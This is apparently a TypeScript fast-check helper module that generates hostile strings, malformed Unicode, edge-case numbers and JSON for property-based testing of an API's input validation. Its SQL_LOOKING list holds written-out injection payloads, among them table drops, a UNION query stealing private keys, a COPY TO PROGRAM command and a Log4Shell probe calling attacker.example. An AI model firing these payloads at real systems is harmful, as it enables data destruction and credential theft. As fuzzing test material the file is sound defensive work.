import fc from 'fast-check';
import { INT4_MAX } from '../../shared/schemas/text.js';

/**
 * One "character" an attacker might send: mostly printable ASCII and real Unicode graphemes
 * (accents, CJK, emoji, ZWJ sequences), and often something hostile: C0 controls with NUL, DEL,
 * C1 controls, bidi overrides, zero-width and unusual whitespace, noncharacters, lone surrogate
 * halves, and SQL or template metacharacters.
 */
export const hostileChar: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 1 }) },
  { weight: 4, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code)) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '\u007f',
      '\u0085',
      '\u009b',
      '\u00a0',
      '\u1680',
      '\u2028',
      '\u2029',
      '\u200b',
      '\u200d',
      '\u202e',
      '\u2066',
      '\ufeff',
      '\u3000',
      '\ufffd',
      '\ufffe',
      '\uffff',
      '\u{10ffff}',
      'e\u0301',
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code)) },
  { weight: 1, arbitrary: fc.constantFrom("'", '"', '\\', ';', '--', '/*', '*/', '%', '_', '$1', '${', '{{', '<', '\u0000') },
);

export const SQL_LOOKING = [
  "'; DROP TABLE tb_exchanges; --",
  "' OR '1'='1",
  "Robert'); DROP TABLE tb_users;--",
  '1; SELECT pg_sleep(10)',
  '$$; DELETE FROM tb_exchange_api_keys; $$',
  "\\'; TRUNCATE tb_exchange_api_keys CASCADE; --",
  "' UNION SELECT private_key FROM tb_exchange_api_keys --",
  "%' OR 1=1 --",
  "E'\\\\x00'",
  "');COPY tb_users TO PROGRAM 'id';--",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe is this literal text, not a template.
  '${jndi:ldap://attacker.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '__proto__',
  'constructor',
] as const;

export const hostileString = (maxLength: number): fc.Arbitrary<string> => fc.string({ unit: hostileChar, maxLength });

/** Runs of one character around the limits: 4096 code points, 16 KiB of body, and beyond. */
export const longString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('k', 'é', '한', '🔑', ' ', '\n', "'"), fc.constantFrom(20, 21, 4095, 4096, 4097, 5461, 8192, 16_384, 17_000))
  .map(([char, count]) => char.repeat(count));

/** Text of every kind: hostile, SQL-looking, Unicode, empty or blank, and very long. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: hostileString(40) },
  { weight: 2, arbitrary: fc.constantFrom(...SQL_LOOKING) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '\t\n', '\u3000\u00a0') },
  { weight: 1, arbitrary: longString },
);

/** Numbers an int4 id may or may not be: in range, at and past its edges, negative zero, fractions, huge. */
export const anyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer({ min: -5, max: 200 }),
  fc.constantFrom(0, -0, 1.5, 1e-7, INT4_MAX, INT4_MAX + 1, -INT4_MAX - 1, 2 ** 53, 2 ** 53 + 2, 1e308, -1e308),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value, with hostile strings as keys and values. */
export const anyJson: fc.Arbitrary<unknown> = fc.jsonValue({ maxDepth: 4, stringUnit: hostileChar });

/** A value for a field that wants a string or a number: right or wrong type. */
export const anyField = (right: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
  fc.oneof({ weight: 6, arbitrary: right }, { weight: 1, arbitrary: anyJson }, { weight: 1, arbitrary: fc.constantFrom(null, true, [], {}, '101', ['101']) });

/** JSON nested `depth` deep around a value, as arrays or objects. */
export const nested = (depth: number, inner: string, asObject: boolean): string =>
  asObject ? `${'{"a":'.repeat(depth)}${inner}${'}'.repeat(depth)}` : `${'['.repeat(depth)}${inner}${']'.repeat(depth)}`;

// The contract's rules for text, stated independently of the zod schemas: well-formed Unicode,
// no NUL or control characters (keys may keep tabs and line breaks), 1..max code points once
// surrounding whitespace is trimmed.
const CONTROLS = /[\u0000-\u001f\u007f]/;
const CONTROLS_BUT_TAB_CR_LF = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;

export function isValidText(value: unknown, max: number, multiline: boolean): value is string {
  if (typeof value !== 'string' || !value.isWellFormed()) return false;
  if ((multiline ? CONTROLS_BUT_TAB_CR_LF : CONTROLS).test(value)) return false;
  const length = Array.from(value.trim()).length;
  return length >= 1 && length <= max;
}

export const isInt4Id = (value: unknown): value is number => typeof value === 'number' && Number.isInteger(value) && value >= 1 && value <= INT4_MAX;
